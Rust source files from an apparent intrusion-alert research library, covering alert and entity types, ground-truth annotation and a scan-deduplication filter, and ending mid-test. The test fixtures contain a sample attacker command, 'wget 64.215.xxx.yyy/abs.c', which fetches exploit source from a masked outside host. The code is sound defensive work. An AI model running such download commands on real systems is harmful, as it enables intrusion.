//! The alert type and attack entities.
//!
//! An [`Alert`] is a symbolized, sanitized log message with provenance
//! metadata (§II-A: "each log message is annotated with metadata indicating
//! the log's origin, such as source IP address or hostname").
//!
//! The [`Entity`] is the unit the threat model groups attacks by (§III-B):
//! activity under the same user account is one attack, even across machines
//! and even for multiple coordinated attackers; different accounts are
//! separate attacks. Network-only activity with no account is keyed by
//! source address.
//!
//! Both types are `Copy` and allocation-free: user names are interned
//! [`Sym`]s, messages are lazily rendered [`MessageSpec`]s, and per-entity
//! detector state is keyed by the integer [`EntityId`] instead of a
//! formatted key string.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::intern::{Sym, SymScope};
use simnet::time::SimTime;
use simnet::topology::HostId;

use crate::message::MessageSpec;
use crate::taxonomy::{AlertKind, Severity};

/// The acting entity an alert is attributed to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Entity {
    /// A user account (the primary attack-session key, §III-B).
    User(Sym),
    /// A source address, for unauthenticated network activity.
    Address(Ipv4Addr),
    /// Unknown origin.
    Unknown,
}

/// A compact integer identity for an [`Entity`] — the hot-path key of
/// every per-entity map (detector state, session buffers, filter windows).
///
/// Encoding: a tag in bits 32.. plus the 32-bit payload (interned user
/// symbol id, or the address as a `u32`). The encoding is lossless, so an
/// id converts back to its [`Entity`] (and key string) without any lookup
/// table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct EntityId(u64);

const TAG_USER: u64 = 1 << 32;
const TAG_ADDR: u64 = 2 << 32;
const TAG_UNKNOWN: u64 = 3 << 32;

impl EntityId {
    /// The raw 64-bit encoding (tag | payload).
    #[inline]
    pub fn raw(self) -> u64 {
        self.0
    }

    /// Rebuild an id from its raw encoding. Raw ids embed interner-local
    /// symbol ids for user entities, so this is only valid within the
    /// process (and sym table) that minted `raw` — snapshot formats must
    /// go through [`EntityId::key`] / [`EntityId::from_key`] instead.
    #[inline]
    pub fn from_raw(raw: u64) -> EntityId {
        EntityId(raw)
    }

    /// Reconstruct the entity this id encodes.
    pub fn entity(self) -> Entity {
        let payload = self.0 as u32;
        match self.0 & !0xFFFF_FFFF {
            TAG_USER => Entity::User(Sym::from_id(payload)),
            TAG_ADDR => Entity::Address(Ipv4Addr::from(payload)),
            _ => Entity::Unknown,
        }
    }

    /// The canonical key string (`user:…` / `addr:…` / `unknown`) —
    /// allocation on purpose; reports and ground-truth tables only.
    /// Resolves user symbols against the global scope; snapshot paths
    /// carrying tenant-scoped ids use [`EntityId::key_in`].
    pub fn key(self) -> String {
        self.key_in(&SymScope::global())
    }

    /// [`EntityId::key`] against an explicit symbol scope. Rebuilds the
    /// user handle via [`SymScope::sym_from_id`] (not
    /// [`EntityId::entity`], whose handles are global-tagged) so
    /// tenant-scoped ids resolve against the table that minted them.
    pub fn key_in(self, scope: &SymScope) -> String {
        let payload = self.0 as u32;
        match self.0 & !0xFFFF_FFFF {
            TAG_USER => format!("user:{}", scope.resolve(scope.sym_from_id(payload))),
            TAG_ADDR => format!("addr:{}", Ipv4Addr::from(payload)),
            _ => "unknown".to_string(),
        }
    }

    /// Parse a canonical key string back to an id (interning the user
    /// name if it has not been seen). The ground-truth hooks accept keys
    /// so evaluation harnesses can keep using strings at the boundary.
    pub fn from_key(key: &str) -> Option<EntityId> {
        EntityId::from_key_in(key, &SymScope::global())
    }

    /// [`EntityId::from_key`] interning the user name into an explicit
    /// scope — the restore path of tenant snapshots.
    pub fn from_key_in(key: &str, scope: &SymScope) -> Option<EntityId> {
        if key == "unknown" {
            return Some(Entity::Unknown.id());
        }
        if let Some(user) = key.strip_prefix("user:") {
            return Some(Entity::User(scope.sym(user)).id());
        }
        if let Some(addr) = key.strip_prefix("addr:") {
            return addr
                .parse::<Ipv4Addr>()
                .ok()
                .map(|a| Entity::Address(a).id());
        }
        None
    }
}

impl Entity {
    /// Canonical string key for reports, ground truth and sessionization
    /// *boundaries*. Hot paths key by [`Entity::id`] instead. Resolves
    /// user symbols against the global scope; see [`Entity::key_in`].
    pub fn key(&self) -> String {
        self.key_in(&SymScope::global())
    }

    /// [`Entity::key`] against an explicit symbol scope.
    pub fn key_in(&self, scope: &SymScope) -> String {
        match self {
            Entity::User(u) => format!("user:{}", scope.resolve(*u)),
            Entity::Address(a) => format!("addr:{a}"),
            Entity::Unknown => "unknown".to_string(),
        }
    }

    /// The allocation-free integer identity (see [`EntityId`]).
    #[inline]
    pub fn id(&self) -> EntityId {
        match self {
            Entity::User(u) => EntityId(TAG_USER | u.id() as u64),
            Entity::Address(a) => EntityId(TAG_ADDR | u32::from(*a) as u64),
            Entity::Unknown => EntityId(TAG_UNKNOWN),
        }
    }

    /// The user name if this is a user entity.
    pub fn user(&self) -> Option<&'static str> {
        match self {
            Entity::User(u) => Some(u.as_str()),
            _ => None,
        }
    }

    /// The user name resolved against an explicit scope.
    pub fn user_in<'a>(&self, scope: &'a SymScope) -> Option<&'a str> {
        match self {
            Entity::User(u) => Some(scope.resolve(*u)),
            _ => None,
        }
    }

    /// A `Display` adapter resolving user symbols against an explicit
    /// scope — what notification/report formatting uses when the entity
    /// came from a tenant-scoped record.
    pub fn display_in<'a>(&'a self, scope: &'a SymScope) -> impl fmt::Display + 'a {
        ScopedEntityDisplay {
            entity: self,
            scope,
        }
    }

    /// Stable 64-bit hash of the entity, for partitioning per-entity work
    /// (detector shards). All alerts of one entity land on the same shard,
    /// which is what makes per-entity detector state shardable at all
    /// (§III-B: one entity = one attack session). Hashes the integer
    /// [`EntityId`] — no string key is ever built.
    pub fn shard_key(&self) -> u64 {
        use std::hash::{Hash, Hasher};
        let mut h = simnet::rng::FxHasher::default();
        self.id().0.hash(&mut h);
        h.finish()
    }
}

impl fmt::Display for Entity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Entity::User(u) => write!(f, "user {u}"),
            Entity::Address(a) => write!(f, "address {a}"),
            Entity::Unknown => write!(f, "unknown entity"),
        }
    }
}

struct ScopedEntityDisplay<'a> {
    entity: &'a Entity,
    scope: &'a SymScope,
}

impl fmt::Display for ScopedEntityDisplay<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.entity {
            Entity::User(u) => write!(f, "user {}", self.scope.resolve(*u)),
            Entity::Address(a) => write!(f, "address {a}"),
            Entity::Unknown => write!(f, "unknown entity"),
        }
    }
}

/// A symbolized alert. `Copy`-cheap: no field owns heap storage.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    pub ts: SimTime,
    pub kind: AlertKind,
    pub entity: Entity,
    /// Host the alert was observed on, when host-based.
    pub host: Option<HostId>,
    /// Source address of the triggering activity, when network-borne.
    pub src: Option<Ipv4Addr>,
    /// Destination address, when network-borne.
    pub dst: Option<Ipv4Addr>,
    /// Structured message, sanitized and rendered on demand
    /// (see [`MessageSpec::render`]).
    pub message: MessageSpec,
}

impl Alert {
    /// Minimal constructor for tests and generators. Takes the entity by
    /// value — a `Copy`, so no call site ever needs to clone one.
    pub fn new(ts: SimTime, kind: AlertKind, entity: Entity) -> Alert {
        Alert {
            ts,
            kind,
            entity,
            host: None,
            src: None,
            dst: None,
            message: MessageSpec::Empty,
        }
    }

    pub fn with_src(mut self, src: Ipv4Addr) -> Alert {
        self.src = Some(src);
        self
    }

    pub fn with_dst(mut self, dst: Ipv4Addr) -> Alert {
        self.dst = Some(dst);
        self
    }

    pub fn with_host(mut self, host: HostId) -> Alert {
        self.host = Some(host);
        self
    }

    pub fn with_message(mut self, msg: impl Into<MessageSpec>) -> Alert {
        self.message = msg.into();
        self
    }

    /// Severity shortcut.
    pub fn severity(&self) -> Severity {
        self.kind.severity()
    }

    /// Whether this alert signals irreversible damage (Insight 4).
    pub fn is_critical(&self) -> bool {
        self.kind.is_critical()
    }
}

impl fmt::Display for Alert {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} [{}]", self.ts, self.kind, self.entity)?;
        if !self.message.is_empty() {
            write!(f, " {}", self.message)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entity_keys_are_distinct() {
        let u = Entity::User("alice".into());
        let a = Entity::Address("10.0.0.1".parse().unwrap());
        assert_ne!(u.key(), a.key());
        assert_eq!(u.key(), "user:alice");
        assert_eq!(u.user(), Some("alice"));
        assert_eq!(a.user(), None);
    }

    #[test]
    fn entity_id_round_trips() {
        for e in [
            Entity::User("alice".into()),
            Entity::Address("10.0.0.1".parse().unwrap()),
            Entity::Unknown,
        ] {
            let id = e.id();
            assert_eq!(id.entity(), e, "lossless encoding");
            assert_eq!(id.key(), e.key());
            assert_eq!(EntityId::from_key(&e.key()), Some(id), "key parses back");
        }
        assert_eq!(EntityId::from_key("garbage"), None);
        assert_eq!(EntityId::from_key("addr:not-an-ip"), None);
        // User "10.0.0.1" and address 10.0.0.1 have different ids.
        assert_ne!(
            Entity::User("10.0.0.1".into()).id(),
            Entity::Address("10.0.0.1".parse().unwrap()).id()
        );
    }

    #[test]
    fn shard_key_is_stable_and_discriminates() {
        let u = Entity::User("alice".into());
        assert_eq!(u.shard_key(), Entity::User("alice".into()).shard_key());
        // User "10.0.0.1" and address 10.0.0.1 must not collide by
        // construction (tagged encoding).
        let a = Entity::Address("10.0.0.1".parse().unwrap());
        assert_ne!(Entity::User("10.0.0.1".into()).shard_key(), a.shard_key());
    }

    #[test]
    fn builder_chain() {
        let a = Alert::new(
            SimTime::from_secs(1),
            AlertKind::DownloadSensitive,
            Entity::User("bob".into()),
        )
        .with_src("64.215.1.1".parse().unwrap())
        .with_host(HostId(3))
        .with_message("wget 64.215.xxx.yyy/abs.c");
        assert_eq!(a.kind, AlertKind::DownloadSensitive);
        assert!(a.src.is_some());
        assert!(a.dst.is_none());
        assert_eq!(a.severity(), Severity::Significant);
        assert!(!a.is_critical());
    }

    #[test]
    fn display_includes_symbol() {
        let a = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PrivilegeEscalation,
            Entity::Unknown,
        );
        let s = a.to_string();
        assert!(s.contains("alert_priv_escalation"));
        assert!(a.is_critical());
    }

    #[test]
    fn alerts_are_copy() {
        let a = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PortScan,
            Entity::Address("1.2.3.4".parse().unwrap()),
        );
        let b = a; // Copy, not move
        assert_eq!(a, b);
    }
}
