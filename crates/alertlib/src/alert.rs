//! The alert type and attack entities.
//!
//! An [`Alert`] is a symbolized, sanitized log message with provenance
//! metadata (§II-A: "each log message is annotated with metadata indicating
//! the log's origin, such as source IP address or hostname").
//!
//! The [`Entity`] is the unit the threat model groups attacks by (§III-B):
//! activity under the same user account is one attack, even across machines
//! and even for multiple coordinated attackers; different accounts are
//! separate attacks. Network-only activity with no account is keyed by
//! source address.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::time::SimTime;
use simnet::topology::HostId;

use crate::taxonomy::{AlertKind, Severity};

/// The acting entity an alert is attributed to.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Entity {
    /// A user account (the primary attack-session key, §III-B).
    User(String),
    /// A source address, for unauthenticated network activity.
    Address(Ipv4Addr),
    /// Unknown origin.
    Unknown,
}

impl Entity {
    /// Canonical string key for sessionization maps.
    pub fn key(&self) -> String {
        match self {
            Entity::User(u) => format!("user:{u}"),
            Entity::Address(a) => format!("addr:{a}"),
            Entity::Unknown => "unknown".to_string(),
        }
    }

    /// The user name if this is a user entity.
    pub fn user(&self) -> Option<&str> {
        match self {
            Entity::User(u) => Some(u),
            _ => None,
        }
    }

    /// Stable 64-bit hash of the entity, for partitioning per-entity work
    /// (detector shards) without allocating the [`Entity::key`] string.
    /// All alerts of one entity land on the same shard, which is what makes
    /// per-entity detector state shardable at all (§III-B: one entity = one
    /// attack session).
    pub fn shard_key(&self) -> u64 {
        use std::hash::{Hash, Hasher};
        let mut h = simnet::rng::FxHasher::default();
        self.hash(&mut h);
        h.finish()
    }
}

impl fmt::Display for Entity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Entity::User(u) => write!(f, "user {u}"),
            Entity::Address(a) => write!(f, "address {a}"),
            Entity::Unknown => write!(f, "unknown entity"),
        }
    }
}

/// A symbolized alert.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    pub ts: SimTime,
    pub kind: AlertKind,
    pub entity: Entity,
    /// Host the alert was observed on, when host-based.
    pub host: Option<HostId>,
    /// Source address of the triggering activity, when network-borne.
    pub src: Option<Ipv4Addr>,
    /// Destination address, when network-borne.
    pub dst: Option<Ipv4Addr>,
    /// Sanitized human-readable message.
    pub message: String,
}

impl Alert {
    /// Minimal constructor for tests and generators.
    pub fn new(ts: SimTime, kind: AlertKind, entity: Entity) -> Alert {
        Alert {
            ts,
            kind,
            entity,
            host: None,
            src: None,
            dst: None,
            message: String::new(),
        }
    }

    pub fn with_src(mut self, src: Ipv4Addr) -> Alert {
        self.src = Some(src);
        self
    }

    pub fn with_dst(mut self, dst: Ipv4Addr) -> Alert {
        self.dst = Some(dst);
        self
    }

    pub fn with_host(mut self, host: HostId) -> Alert {
        self.host = Some(host);
        self
    }

    pub fn with_message(mut self, msg: impl Into<String>) -> Alert {
        self.message = msg.into();
        self
    }

    /// Severity shortcut.
    pub fn severity(&self) -> Severity {
        self.kind.severity()
    }

    /// Whether this alert signals irreversible damage (Insight 4).
    pub fn is_critical(&self) -> bool {
        self.kind.is_critical()
    }
}

impl fmt::Display for Alert {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} [{}]", self.ts, self.kind, self.entity)?;
        if !self.message.is_empty() {
            write!(f, " {}", self.message)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entity_keys_are_distinct() {
        let u = Entity::User("alice".into());
        let a = Entity::Address("10.0.0.1".parse().unwrap());
        assert_ne!(u.key(), a.key());
        assert_eq!(u.key(), "user:alice");
        assert_eq!(u.user(), Some("alice"));
        assert_eq!(a.user(), None);
    }

    #[test]
    fn shard_key_is_stable_and_discriminates() {
        let u = Entity::User("alice".into());
        assert_eq!(u.shard_key(), Entity::User("alice".into()).shard_key());
        // User "10.0.0.1" and address 10.0.0.1 must not collide by
        // construction (tagged hashing).
        let a = Entity::Address("10.0.0.1".parse().unwrap());
        assert_ne!(Entity::User("10.0.0.1".into()).shard_key(), a.shard_key());
    }

    #[test]
    fn builder_chain() {
        let a = Alert::new(
            SimTime::from_secs(1),
            AlertKind::DownloadSensitive,
            Entity::User("bob".into()),
        )
        .with_src("64.215.1.1".parse().unwrap())
        .with_host(HostId(3))
        .with_message("wget 64.215.xxx.yyy/abs.c");
        assert_eq!(a.kind, AlertKind::DownloadSensitive);
        assert!(a.src.is_some());
        assert!(a.dst.is_none());
        assert_eq!(a.severity(), Severity::Significant);
        assert!(!a.is_critical());
    }

    #[test]
    fn display_includes_symbol() {
        let a = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PrivilegeEscalation,
            Entity::Unknown,
        );
        let s = a.to_string();
        assert!(s.contains("alert_priv_escalation"));
        assert!(a.is_critical());
    }
}
