//! Ground-truth annotation.
//!
//! §II-A: *"A majority of alerts (99.7%) have been automatically annotated
//! with corresponding attack states. ... Only a small fraction (0.3%) of
//! alerts (i.e., ones that appear in both attack and legitimate activities)
//! cannot be annotated automatically. We consulted with several security
//! experts to annotate the remaining alerts."*
//!
//! The [`Annotator`] reproduces that pipeline: kinds whose label is implied
//! by the taxonomy are annotated automatically; a configurable set of
//! *ambiguous* kinds is routed to an expert resolver, which here consults
//! the incident's [`GroundTruth`] (the human-written incident report).

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashSet;

use crate::alert::{Alert, Entity};
use crate::taxonomy::{AlertKind, Severity};

/// Binary attack-state label.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Label {
    Benign,
    Malicious,
}

/// How a label was obtained.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Method {
    Auto,
    Expert,
}

/// An annotated alert label.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Annotation {
    pub label: Label,
    pub method: Method,
}

/// The ground truth from a human-written incident report: "the users and
/// the machines involved in the incident" (§II-A).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct GroundTruth {
    /// Compromised or attacker-controlled accounts.
    pub users: Vec<String>,
    /// Compromised machines (hostnames).
    pub machines: Vec<String>,
    /// Attacker source addresses.
    pub attacker_ips: Vec<Ipv4Addr>,
}

impl GroundTruth {
    /// Whether the alert's entity is implicated by this report.
    pub fn implicates(&self, alert: &Alert) -> bool {
        let entity_hit = match &alert.entity {
            Entity::User(u) => self.users.iter().any(|x| x == u),
            Entity::Address(a) => self.attacker_ips.contains(a),
            Entity::Unknown => false,
        };
        entity_hit || alert.src.is_some_and(|s| self.attacker_ips.contains(&s))
    }
}

/// Summary counts of an annotation run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AnnotationReport {
    pub total: u64,
    pub auto_annotated: u64,
    pub expert_annotated: u64,
    pub malicious: u64,
    pub benign: u64,
}

impl AnnotationReport {
    /// Fraction annotated automatically (the paper reports 99.7%).
    pub fn auto_fraction(&self) -> f64 {
        if self.total == 0 {
            return 1.0;
        }
        self.auto_annotated as f64 / self.total as f64
    }
}

/// The annotation engine.
#[derive(Debug, Clone)]
pub struct Annotator {
    /// Kinds appearing in both attack and legitimate activity — these are
    /// the 0.3% that cannot be auto-annotated.
    ambiguous: FxHashSet<AlertKind>,
}

impl Default for Annotator {
    fn default() -> Self {
        let mut ambiguous = FxHashSet::default();
        for k in [
            AlertKind::CompileSource,
            AlertKind::LoginUnusualHour,
            AlertKind::InternalPivotLogin,
            AlertKind::NewServiceInstall,
            AlertKind::ArchiveStaging,
            AlertKind::PasswordFileAccess,
        ] {
            ambiguous.insert(k);
        }
        Annotator { ambiguous }
    }
}

impl Annotator {
    pub fn new(ambiguous: impl IntoIterator<Item = AlertKind>) -> Self {
        Annotator {
            ambiguous: ambiguous.into_iter().collect(),
        }
    }

    /// Whether a kind requires expert review.
    pub fn is_ambiguous(&self, kind: AlertKind) -> bool {
        self.ambiguous.contains(&kind)
    }

    /// The automatic label for a kind, or `None` if ambiguous.
    pub fn auto_label(&self, kind: AlertKind) -> Option<Label> {
        if self.is_ambiguous(kind) {
            return None;
        }
        Some(match kind.severity() {
            Severity::Info => Label::Benign,
            // Mass scans and attempts overwhelmingly fail (Remark 2); as
            // isolated alerts they are not evidence of a successful attack.
            Severity::Noise | Severity::Attempt => Label::Benign,
            Severity::Significant | Severity::Critical => Label::Malicious,
        })
    }

    /// Annotate one alert, consulting the ground truth for ambiguous kinds
    /// (the "expert" of §II-A reads the incident report).
    pub fn annotate(&self, alert: &Alert, gt: &GroundTruth) -> Annotation {
        match self.auto_label(alert.kind) {
            Some(label) => Annotation {
                label,
                method: Method::Auto,
            },
            None => {
                let label = if gt.implicates(alert) {
                    Label::Malicious
                } else {
                    Label::Benign
                };
                Annotation {
                    label,
                    method: Method::Expert,
                }
            }
        }
    }

    /// Annotate a batch and produce the coverage report (experiment E10).
    pub fn annotate_batch(
        &self,
        alerts: &[Alert],
        gt: &GroundTruth,
    ) -> (Vec<Annotation>, AnnotationReport) {
        let mut report = AnnotationReport::default();
        let mut labels = Vec::with_capacity(alerts.len());
        for a in alerts {
            let ann = self.annotate(a, gt);
            report.total += 1;
            match ann.method {
                Method::Auto => report.auto_annotated += 1,
                Method::Expert => report.expert_annotated += 1,
            }
            match ann.label {
                Label::Malicious => report.malicious += 1,
                Label::Benign => report.benign += 1,
            }
            labels.push(ann);
        }
        (labels, report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::time::SimTime;

    fn gt() -> GroundTruth {
        GroundTruth {
            users: vec!["eve".into()],
            machines: vec!["db01".into()],
            attacker_ips: vec!["111.200.1.1".parse().unwrap()],
        }
    }

    #[test]
    fn info_and_noise_auto_benign() {
        let ann = Annotator::default();
        assert_eq!(ann.auto_label(AlertKind::LoginSuccess), Some(Label::Benign));
        assert_eq!(ann.auto_label(AlertKind::PortScan), Some(Label::Benign));
    }

    #[test]
    fn significant_and_critical_auto_malicious() {
        let ann = Annotator::default();
        assert_eq!(
            ann.auto_label(AlertKind::KnownMalwareDownload),
            Some(Label::Malicious)
        );
        assert_eq!(
            ann.auto_label(AlertKind::PrivilegeEscalation),
            Some(Label::Malicious)
        );
    }

    #[test]
    fn ambiguous_kinds_need_expert() {
        let ann = Annotator::default();
        assert_eq!(ann.auto_label(AlertKind::CompileSource), None);
        assert!(ann.is_ambiguous(AlertKind::LoginUnusualHour));
    }

    #[test]
    fn expert_resolution_uses_ground_truth() {
        let ann = Annotator::default();
        let attacker_alert = Alert::new(
            SimTime::from_secs(0),
            AlertKind::CompileSource,
            Entity::User("eve".into()),
        );
        let benign_alert = Alert::new(
            SimTime::from_secs(0),
            AlertKind::CompileSource,
            Entity::User("alice".into()),
        );
        let a = ann.annotate(&attacker_alert, &gt());
        assert_eq!((a.label, a.method), (Label::Malicious, Method::Expert));
        let b = ann.annotate(&benign_alert, &gt());
        assert_eq!((b.label, b.method), (Label::Benign, Method::Expert));
    }

    #[test]
    fn attacker_ip_implication() {
        let alert = Alert::new(
            SimTime::from_secs(0),
            AlertKind::InternalPivotLogin,
            Entity::Address("111.200.1.1".parse().unwrap()),
        );
        assert!(gt().implicates(&alert));
    }

    #[test]
    fn batch_report_fractions() {
        let ann = Annotator::default();
        let mut alerts = Vec::new();
        for i in 0..997 {
            alerts.push(Alert::new(
                SimTime::from_secs(i),
                AlertKind::PortScan,
                Entity::Address("1.1.1.1".parse().unwrap()),
            ));
        }
        for i in 0..3 {
            alerts.push(Alert::new(
                SimTime::from_secs(i),
                AlertKind::CompileSource,
                Entity::User("eve".into()),
            ));
        }
        let (labels, report) = ann.annotate_batch(&alerts, &gt());
        assert_eq!(labels.len(), 1_000);
        assert_eq!(report.total, 1_000);
        assert_eq!(report.expert_annotated, 3);
        assert!((report.auto_fraction() - 0.997).abs() < 1e-9);
    }
}
