//! The repeated-alert filter.
//!
//! §II-A: *"we filter repeated alerts of periodic scans from the public
//! Internet to reduce the size of our dataset"* — from 25 M alerts down to
//! 191 K directly related to successful attacks. This module implements
//! that stage as a streaming, windowed deduplicator: for noise-severity
//! alerts, only the first occurrence per `(source, kind)` per window is
//! admitted; everything of higher severity passes through untouched.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

use crate::alert::{Alert, Entity};

/// Filter settings.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FilterConfig {
    /// Dedup window for noise alerts.
    pub window: SimDuration,
    /// How many alerts per `(source, kind)` to admit per window.
    pub admit_per_window: u32,
    /// Also deduplicate `Attempt`-severity alerts (brute-force floods).
    pub dedup_attempts: bool,
}

impl Default for FilterConfig {
    fn default() -> Self {
        FilterConfig {
            window: SimDuration::from_hours(24),
            admit_per_window: 1,
            dedup_attempts: true,
        }
    }
}

/// Streaming filter statistics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FilterStats {
    pub seen: u64,
    pub admitted: u64,
    pub suppressed: u64,
}

impl FilterStats {
    /// Fraction of alerts that survived the filter.
    pub fn reduction(&self) -> f64 {
        if self.seen == 0 {
            return 1.0;
        }
        self.admitted as f64 / self.seen as f64
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
struct Key {
    source: u64,
    kind: u16,
}

#[derive(Debug, Clone, Copy)]
struct Window {
    start: SimTime,
    admitted: u32,
}

/// The streaming scan filter. O(1) amortized per alert; state is bounded by
/// the number of active `(source, kind)` pairs per window (stale entries
/// are swept opportunistically).
#[derive(Debug)]
pub struct ScanFilter {
    cfg: FilterConfig,
    state: FxHashMap<Key, Window>,
    stats: FilterStats,
    last_sweep: SimTime,
}

impl Default for ScanFilter {
    fn default() -> Self {
        Self::new(FilterConfig::default())
    }
}

impl ScanFilter {
    pub fn new(cfg: FilterConfig) -> Self {
        ScanFilter {
            cfg,
            state: FxHashMap::default(),
            stats: FilterStats::default(),
            last_sweep: SimTime::EPOCH,
        }
    }

    /// The dedup source: the entity's integer id, except that unknown
    /// entities fall back to their source address so distinct anonymous
    /// sources keep distinct windows. No hashing, no allocation — the
    /// window map hashes the `u64` directly.
    fn source_key(entity: &Entity, src: Option<Ipv4Addr>) -> u64 {
        match (entity, src) {
            (Entity::Unknown, Some(a)) => ANON_SRC_TAG | u64::from(u32::from(a)),
            (e, _) => e.id().raw(),
        }
    }

    /// Whether this alert should pass the filter. Updates internal state.
    pub fn admit(&mut self, alert: &Alert) -> bool {
        self.stats.seen += 1;
        let dedup = alert.kind.is_noise()
            || (self.cfg.dedup_attempts && alert.severity() == crate::taxonomy::Severity::Attempt);
        if !dedup {
            self.stats.admitted += 1;
            return true;
        }
        self.maybe_sweep(alert.ts);
        let key = Key {
            source: Self::source_key(&alert.entity, alert.src),
            kind: alert.kind.index() as u16,
        };
        let w = self.state.entry(key).or_insert(Window {
            start: alert.ts,
            admitted: 0,
        });
        if alert.ts.saturating_since(w.start) > self.cfg.window {
            w.start = alert.ts;
            w.admitted = 0;
        }
        if w.admitted < self.cfg.admit_per_window {
            w.admitted += 1;
            self.stats.admitted += 1;
            true
        } else {
            self.stats.suppressed += 1;
            false
        }
    }

    /// Filter a batch, returning the admitted alerts.
    pub fn filter_batch(&mut self, alerts: impl IntoIterator<Item = Alert>) -> Vec<Alert> {
        alerts.into_iter().filter(|a| self.admit(a)).collect()
    }

    pub fn stats(&self) -> FilterStats {
        self.stats
    }

    /// Drop window entries more than two windows old. Called opportunistically
    /// so long streaming runs do not accumulate dead sources.
    fn maybe_sweep(&mut self, now: SimTime) {
        if now.saturating_since(self.last_sweep) < self.cfg.window {
            return;
        }
        self.last_sweep = now;
        let horizon = self.cfg.window + self.cfg.window;
        self.state
            .retain(|_, w| now.saturating_since(w.start) <= horizon);
    }

    /// Number of live `(source, kind)` windows (for tests/metrics).
    pub fn live_windows(&self) -> usize {
        self.state.len()
    }

    /// Export the filter's dedup state in a process-independent form.
    ///
    /// Window keys embed interner-local symbol ids for user entities, so
    /// they are rendered as canonical strings (`user:…`/`addr:…`, or
    /// `src:<ip>` for anonymous-source windows) and re-interned on
    /// import. Output is sorted, so identical filter states export
    /// byte-identical snapshots regardless of hash-map iteration order.
    pub fn export_state(&self) -> FilterSnapshot {
        let mut windows: Vec<FilterWindowSnapshot> = self
            .state
            .iter()
            .map(|(k, w)| FilterWindowSnapshot {
                source: Self::encode_source(k.source),
                kind: k.kind,
                start: w.start,
                admitted: w.admitted,
            })
            .collect();
        windows.sort_by(|a, b| (&a.source, a.kind).cmp(&(&b.source, b.kind)));
        FilterSnapshot {
            windows,
            stats: self.stats,
            last_sweep: self.last_sweep,
        }
    }

    /// Restore state previously captured by [`export_state`]
    /// (`ScanFilter::export_state`). The config is NOT part of the
    /// snapshot: the restoring process supplies its own (normally
    /// identical) `FilterConfig`.
    ///
    /// # Panics
    /// On malformed source keys — snapshots are produced by
    /// `export_state`, so corruption is a caller bug, not an input error.
    pub fn import_state(&mut self, snap: &FilterSnapshot) {
        self.state.clear();
        for w in &snap.windows {
            let key = Key {
                source: Self::decode_source(&w.source),
                kind: w.kind,
            };
            self.state.insert(
                key,
                Window {
                    start: w.start,
                    admitted: w.admitted,
                },
            );
        }
        self.stats = snap.stats;
        self.last_sweep = snap.last_sweep;
    }

    /// Render a window-map source key as a process-independent string.
    fn encode_source(source: u64) -> String {
        if source & !0xFFFF_FFFF == ANON_SRC_TAG {
            format!("src:{}", Ipv4Addr::from(source as u32))
        } else {
            crate::alert::EntityId::from_raw(source).key()
        }
    }

    /// Inverse of [`encode_source`](Self::encode_source), re-interning
    /// user names in the current process.
    fn decode_source(source: &str) -> u64 {
        if let Some(ip) = source.strip_prefix("src:") {
            let a: Ipv4Addr = ip.parse().expect("filter snapshot: bad src address");
            ANON_SRC_TAG | u64::from(u32::from(a))
        } else {
            crate::alert::EntityId::from_key(source)
                .expect("filter snapshot: bad entity key")
                .raw()
        }
    }
}

/// Tag bits marking window keys derived from an anonymous source address
/// (see [`ScanFilter::admit`]'s `source_key`): distinct from every
/// [`EntityId`](crate::alert::EntityId) tag.
const ANON_SRC_TAG: u64 = 4 << 32;

/// One `(source, kind)` dedup window in process-independent form.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FilterWindowSnapshot {
    /// `user:…` / `addr:…` / `unknown`, or `src:<ip>` for windows keyed
    /// by an anonymous source address.
    pub source: String,
    /// `AlertKind` index.
    pub kind: u16,
    pub start: SimTime,
    pub admitted: u32,
}

/// Full dedup state of a [`ScanFilter`], for service snapshot/restore.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct FilterSnapshot {
    /// Sorted by `(source, kind)`.
    pub windows: Vec<FilterWindowSnapshot>,
    pub stats: FilterStats,
    pub last_sweep: SimTime,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taxonomy::AlertKind;

    fn scan_alert(t: u64, src: &str) -> Alert {
        Alert::new(
            SimTime::from_secs(t),
            AlertKind::PortScan,
